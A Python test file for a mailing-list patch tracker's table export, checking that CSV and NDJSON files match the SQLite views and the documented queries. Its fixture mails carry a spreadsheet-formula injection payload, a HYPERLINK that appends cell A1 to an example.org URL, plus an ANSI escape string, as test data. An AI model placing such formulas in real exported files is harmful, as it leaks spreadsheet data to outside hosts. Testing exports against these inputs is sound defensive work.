#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""tables.py PROGRAM: flat tables and the views of a state have the same rows."""
import csv, importlib.util, json, os, re, sqlite3, sys, unittest

from mails import LIST_ID, mail, mbox, patch, run
from states import StateTest, read, some_list

TABLES = ('series covers patches comments people events files trailers tags revisions '
          'states').split()
VIEWS = TABLES[:-1]  # states are worked out
DOCS = os.path.join(os.path.dirname(os.path.abspath(__file__)), '../../docs/state.md')
NOW = '--now=2026-06-01'
ODD = 'a\x1b[31mb c, dä"€'  # as it is read
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"x")'
RENAME = '''diff --git a/bell.png b/bell.png
index 1..2
Binary files a/bell.png and b/bell.png differ
diff --git a/wheel.c b/hub.c
similarity index 90%
rename from wheel.c
rename to hub.c
--- a/wheel.c
+++ b/hub.c
@@ -1,2 +1 @@
-old
-older
+new
'''


def reply(number, to, body, sender='Bo Binder <bo@example.org>'):
    text = mail(number, 'Re: it', body, f'In-Reply-To: <{to}@example.org>\n')
    return text.replace('Ann Example <ann@example.org>', sender, 1)


MAILS = [
    mail(0, '[PATCH 0/2] oil the wheels', 'All of them.\n\nCc: stable@example.org # 6.1\n'),
    patch(1, '[PATCH 1/2] front', 'In-Reply-To: <0@example.org>\n'),
    mail(2, '[PATCH 2/2] rear', 'Fixes: 0123456789ab ("fit the rear")\n'
         f'signed-off-BY:  "Example, Ann" <ann@example.org>\n---\n{RENAME}',
         'In-Reply-To: <0@example.org>\n'),
    reply(3, 1, 'Fine.\n> Acked-by: Nobody\n\nREVIEWED-BY: Bo Binder <bo@example.org>\nThanks\n'),
    reply(4, 2, 'Reviewed-by: Somebody Whose Name Is So Long\n<long@example.org>\n'
          'Tested-by: bo@example.org\n', 'bo@example.org'),
    reply(5, 0, 'Why?\n\nNacked-by: Cy\n', 'Cy <cy@example.org>'),
    patch(6, f'[PATCH v2] {FORMULA}'),
    patch(7, '[PATCH] a\x1b[31mb\tc, =?utf-8?q?d=C3=A4=22=E2=82=AC?='),
    mail(8, '[GIT PULL] oil',
         'The following changes since commit 1:\n\n  x\n\n'
         'are available in the git repository at:\n\n  git://example.org/oil.git tags/oil\n'),
    patch(9, '[PATCH 0/1] a cover with a diff'),
    mail(10, '[PATCH] needs an action', f'Do.\n---\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n',
         'X-Patchwork-Action-Required: yes\n'),
    reply(11, 10, 'Later.\n', 'Ann Example <ann@example.org>').replace(
        'List-Id', 'X-Patchwork-Action-Required: yes\nList-Id'),
    patch(12, '[PATCH 3/9] lonely').replace('May 2026', 'May 1985'),
    patch(13, '[PATCH] wheels').replace('ann@', 'di@').replace('wheel.c', ''),
]

# Of the ten questions in docs/state.md, about MAILS.
ANSWERS = [
    [(0.1,)],
    [('bo@example.org', 'ann@example.org', 1), ('long@example.org', 'ann@example.org', 1)],
    [('wheel.c', 5, 5, 5), ('', 1, 1, 1), ('bell.png', 1, 0, 0), ('hub.c', 1, 1, 2),
     ('x', 1, 1, 1)],
    [(6, '1985-05-01T10:12:00', None), (2, '2026-05-01T10:06:00', f'[v2] {FORMULA}'),
     (3, '2026-05-01T10:07:00', ODD), (4, '2026-05-01T10:08:00', '[GIT,PULL] oil'),
     (7, '2026-05-01T10:13:00', 'wheels')],
    [('1985', 1, 0.0), ('2026', 8, 25.0)],
    [(1, 6), (2, 1)],
    [('10', 9)],
    [('1985-05', 1, 0), ('2026-05', 2, 3)],
    [('1985-05', 1), ('2026-05', 1)],
    [('0123456789ab', 1)],
]


class Tables(StateTest):
    maxDiff = None

    def setUp(self):
        super().setUp()
        self.path = self.write('list.mbox', mbox(*MAILS))

    def tables(self, kind, *arguments):
        """The files, by table."""
        folder = os.path.join(self.folder, 'out')
        result = run('export', '-q', NOW, '--format', kind, '-o', folder, *arguments)
        self.assertEqual(result.returncode, 0, result.err)
        self.assertEqual(sorted(os.listdir(folder)), sorted(f'{name}.{kind}' for name in TABLES))
        files = {name: read(os.path.join(folder, f'{name}.{kind}')).decode() for name in TABLES}
        for name in TABLES:
            os.remove(os.path.join(folder, f'{name}.{kind}'))
        return files

    def rows(self, *arguments):
        return {name: [json.loads(line) for line in text.split('\n')[:-1]]
                for name, text in self.tables('ndjson', *arguments).items()}

    def columns(self):
        """The columns of each table, with their types and what they are."""
        tables = {}
        for block in run('export', '--columns').out.rstrip('\n').split('\n\n'):
            name, *lines = block.split('\n')
            tables[name] = [re.fullmatch(r'  (\w+) +(\w+) +(.*)', line).groups() for line in lines]
        self.assertEqual(list(tables), TABLES)
        return tables

    def view(self, name):
        """The rows of a view, as NDJSON would have them, sorted."""
        db = sqlite3.connect(f'file:{self.db}?mode=ro', uri=True)
        cursor = db.execute(f'SELECT * FROM v_{name}')
        types = {column: kind for column, kind, _ in self.columns()[name]}
        self.assertEqual([column[0] for column in cursor.description], list(types))
        rows = []
        for values in cursor:
            row = dict(zip(types, values))
            for column, value in row.items():
                if types[column] == 'list':
                    row[column] = json.loads(value)
                elif types[column] == 'boolean' and value is not None:
                    self.assertIn(value, (0, 1))
                    row[column] = bool(value)
            rows.append(row)
        db.close()
        return sorted(map(json.dumps, rows))

    def check(self, mails, *arguments):
        """Archive, state and views agree.  Returns: the rows."""
        path = self.write('all.mbox', mbox(*mails))
        self.ingest(NOW, *arguments, path)
        for kind in ('csv', 'ndjson'):
            expected = self.tables(kind, *arguments, path)
            self.assertEqual(self.tables(kind, '--state', self.db), expected)
            self.assertEqual(self.tables(kind, '--jobs=1', *arguments, path), expected)
        rows = self.rows('--state', self.db)
        for name in VIEWS:
            with self.subTest(name):
                self.assertEqual(self.view(name), sorted(map(json.dumps, rows[name])))
        return rows

    def test_rows(self):
        rows = self.check(MAILS)
        for name in TABLES:
            self.assertGreater(len(rows[name]), 0, name)
        for name in ('series', 'patches', 'people', 'events'):
            self.assertEqual([row['id'] for row in rows[name]],
                             list(range(1, len(rows[name]) + 1)))

    def test_of_many(self):
        rows = self.check(some_list(120))
        self.assertGreater(len(rows['comments']), 10)
        self.assertGreater(len([row for row in rows['revisions'] if row['follows']]), 5)

    def test_precise_grouping(self):
        self.check([mail(20, 'oil'), patch(21, '[PATCH 1/1] x', 'In-Reply-To: <20@example.org>\n'),
                    *MAILS], '--grouping=precise')

    def test_other_tags(self):
        """Tags that a configuration does not have are null; those that it has are in `tags`."""
        config = self.write('x.ini', f'[project w]\nlist_id={LIST_ID}\n[tag It\'s-"odd"]\n'
                            'pattern=^Fine\nabbrev=F\n[tag Reviewed-by]\npattern=^Reviewed-by:\n'
                            'abbrev=R\n')
        rows = self.check(MAILS, '--config', config)
        self.assertEqual([(row['acked'], row['reviewed']) for row in rows['series'][:2]],
                         [(None, 2), (None, 0)])
        self.assertEqual([(row['patch'], row['name'], row['count']) for row in rows['tags']],
                         [(1, 'It\'s-"odd"', 1), (1, 'Reviewed-by', 1), (2, 'Reviewed-by', 1)])

    def test_new_tags(self):
        """A rebuild by another configuration changes the names of tags, too."""
        self.ingest(self.path)
        config = self.write('x.ini', f'[project w]\nlist_id={LIST_ID}\n[tag Tested-by]\n'
                            'pattern=^Tested-by:\nabbrev=T\n')
        self.assertEqual(run('rebuild', '--config', config, '--state', self.db).returncode, 0)
        rows = self.rows('--state', self.db)
        self.assertEqual([row['name'] for row in rows['tags']], ['Tested-by'])
        self.assertEqual(self.view('tags'), sorted(map(json.dumps, rows['tags'])))
        self.assertEqual(rows['patches'][1]['tested'], 1)

    def test_trailers(self):
        rows = self.rows(self.path)['trailers']
        self.assertEqual(
            [[row[name] for name in ('cover', 'patch', 'comment', 'place', 'name', 'value',
                                     'person_name', 'person_email')] for row in rows
             if row['name'] != 'Signed-off-by' or row['patch'] == 2],
            [[1, None, None, 1, 'Cc', 'stable@example.org # 6.1', None, 'stable@example.org'],
             [None, 2, None, 1, 'Fixes', '0123456789ab ("fit the rear")', None, None],
             [None, 2, None, 2, 'Signed-off-by', '"Example, Ann" <ann@example.org>',
              'Example, Ann', 'ann@example.org'],
             [1, None, 1, 1, 'Nacked-by', 'Cy', None, None],
             [None, 1, 1, 1, 'Reviewed-by', 'Bo Binder <bo@example.org>', 'Bo Binder',
              'bo@example.org'],
             [None, 2, 2, 1, 'Reviewed-by', 'Somebody Whose Name Is So Long <long@example.org>',
              'Somebody Whose Name Is So Long', 'long@example.org'],
             [None, 2, 2, 2, 'Tested-by', 'bo@example.org', None, 'bo@example.org']])
        patches = self.rows(self.path)['patches']
        self.assertEqual(patches[1]['trailers'],
                         ['Fixes: 0123456789ab ("fit the rear")',
                          'Signed-off-by: "Example, Ann" <ann@example.org>'])

    def test_revisions(self):
        """A second version, of which a patch is sent once more; a reply to each version."""
        cover = 'In-Reply-To: <{}@example.org>\n'.format
        rows = self.check([
            mail(20, '[PATCH 0/2] oil'), patch(21, '[PATCH 1/2] front', cover(20)),
            patch(22, '[PATCH 2/2] rear', cover(20)), reply(23, 21, 'NAK\n'),
            mail(24, '[PATCH v2 0/2] oil',
                 'All.\n\n- Link to v1: https://lore.kernel.org/r/20@example.org\n'),
            patch(25, '[PATCH v2 1/2] front', cover(24)),
            patch(26, '[PATCH v2 2/2] rear', cover(24)),
            patch(27, '[PATCH v2.1 2/2] rear', cover(26)), reply(28, 25, 'Thanks, applied.\n')])
        self.assertEqual(
            [[row[name] for name in ('id', 'series', 'msgid', 'version', 'minor', 'patches',
                                     'is_partial', 'chain', 'follows', 'follows_series',
                                     'relation', 'evidence')] for row in rows['revisions']],
            [[2, 1, '<20@example.org>', 1, 0, 2, False, 2, None, None, None, None],
             [4, 2, '<24@example.org>', 2, 0, 2, False, 2, 2, 1, 'bump', 'link'],
             [11, 3, '<27@example.org>', 2, 1, 1, True, 2, 4, 2, 'bump', 'reference']])
        self.assertEqual(
            [[row[name] for name in ('series', 'patch', 'state', 'why', 'msgid')] +
             [row['last'][11:16]] for row in rows['states']],
            [[1, None, 'superseded', 'newer version', '<24@example.org>', '10:23'],
             [2, None, 'superseded', 'newer version', '<27@example.org>', '10:28'],
             [3, None, 'new', 'no reply', None, '10:27'],
             [1, 1, 'superseded', 'newer version', '<25@example.org>', '10:23'],
             [1, 2, 'superseded', 'newer version', '<26@example.org>', '10:23'],
             [2, 3, 'accepted', 'reply', '<28@example.org>', '10:28'],
             [2, 4, 'superseded', 'newer version', '<27@example.org>', '10:28'],
             [3, 5, 'new', 'no reply', None, '10:27']])

    def test_files(self):
        rows = self.rows(self.path)
        self.assertEqual(
            [[row[name] for name in ('patch', 'place', 'path', 'old_path', 'added', 'removed',
                                     'is_binary')] for row in rows['files'][:3]],
            [[1, 1, 'wheel.c', None, 1, 1, False], [2, 1, 'bell.png', None, 0, 0, True],
             [2, 2, 'hub.c', 'wheel.c', 1, 2, False]])
        self.assertEqual([(row['files'], row['added'], row['removed']) for row in
                          rows['patches'][:2]], [(1, 1, 1), (2, 1, 2)])
        self.assertIn('', [row['path'] for row in rows['files']])

    def test_list_by_file(self):
        """`list --file` finds old and new names, and what has no lines, in both."""
        self.ingest(self.path)
        for pattern, expected in [('hub.c', ['1']), ('bell.png', ['1']), ('x', ['5']),
                                  ('wheel.*', ['1', '2', '3', '6'])]:
            for source in (self.path, f'--state={self.db}'):
                result = run('list', '--format=csv', '--columns=id', '--file', pattern, source)
                self.assertEqual(result.out.split()[1:], expected, pattern)

    def test_values(self):
        """Null, false and empty texts differ; nothing is taken from what mails say."""
        rows = self.rows(self.path)
        names = [row['name'] for row in rows['patches']]
        self.assertIn(f'[v2] {FORMULA}', names)
        self.assertIn(ODD, names)
        self.assertEqual([(row['pull_url'], row['hash']) for row in rows['patches'] if
                          row['pull_url']], [('git://example.org/oil.git tags/oil', None)])
        self.assertEqual([row['number'] for row in rows['patches'] if row['series'] is None],
                         [None])
        self.assertEqual([row['is_addressed'] for row in rows['comments']],
                         [None, None, None, False])
        self.assertIn('1985-05-01T10:12:00', [row['date'] for row in rows['series']])

    def test_csv(self):
        """CSV says the same as NDJSON."""
        expected = self.rows(self.path)
        cells = {'integer': int, 'boolean': {'true': True, 'false': False}.get, 'text': str,
                 'list': json.loads}
        for name, text in self.tables('csv', self.path).items():
            header, *lines = csv.reader(text.splitlines(True), strict=True)
            columns = self.columns()[name]
            self.assertEqual(header, [column for column, _, _ in columns])
            for line, row in zip(lines, expected[name], strict=True):
                for cell, (column, kind, _) in zip(line, columns, strict=True):
                    self.assertEqual(None if cell == '' and row[column] is None else
                                     cells[kind](cell), row[column])
        self.assertIn(',"",', self.tables('csv', self.path)['files'])

    def test_described(self):
        """docs/state.md describes the views as the program does."""
        text = read(DOCS).decode()
        for name, columns in self.columns().items():
            rows = ''.join(f'| `{column}` | {kind} | {about} |\n'
                           for column, kind, about in columns)
            title = f'v_{name}' if name in VIEWS else name
            self.assertIn(f'`{title}`:\n\n| column | type | what it is |\n| --- | --- | --- |\n'
                          f'{rows}\n', text)

    def test_questions(self):
        """The answers to the questions in docs/state.md."""
        self.ingest(self.path)
        section = read(DOCS).decode().split('\n## Ten questions\n')[1].split('\n## ')[0]
        db = sqlite3.connect(f'file:{self.db}?mode=ro', uri=True)
        self.addCleanup(db.close)
        for question, expected in zip(section.split('\n### ')[1:], ANSWERS, strict=True):
            with self.subTest(question.split('\n', maxsplit=1)[0]):
                query = '\n'.join(re.findall('^    (.*)', question, re.M))
                self.assertEqual(db.execute(query).fetchall(), expected)

    def test_usage(self):
        out = os.path.join(self.folder, 'out')
        for arguments in (['--format=csv'], ['--format=xml', '-o', out],
                          ['--format=csv', '--api-only', '-o', out]):
            self.assertEqual(run('export', *arguments, self.path).returncode, 64)
        self.assertEqual(run('export', '--format=csv', '-o', self.path, self.path).returncode, 73)
        self.assertFalse(os.path.exists(out))


class DataFrames(StateTest):
    @unittest.skipUnless(importlib.util.find_spec('pandas'), 'there is no pandas')
    def test_pandas(self):
        """Types are told from the files alone."""
        pandas = importlib.import_module('pandas')
        path = self.write('list.mbox', mbox(*MAILS))
        for kind, reader, options in [('csv', pandas.read_csv, {'parse_dates': ['date']}),
                                      ('ndjson', pandas.read_json, {'lines': True})]:
            run('export', '-q', '--format', kind, '-o', self.folder, path)
            frame = reader(os.path.join(self.folder, f'patches.{kind}'), **options)
            self.assertEqual(len(frame), 9)
            self.assertEqual([frame[name].dtype.kind for name in ('date', 'added', 'number')],
                             ['M', 'i', 'f'])
            self.assertEqual(frame['added'].sum(), 8)
            self.assertEqual(frame['hash'].isna().sum(), 1)


if __name__ == '__main__':
    unittest.main(argv=[sys.argv[0], *sys.argv[2:]])
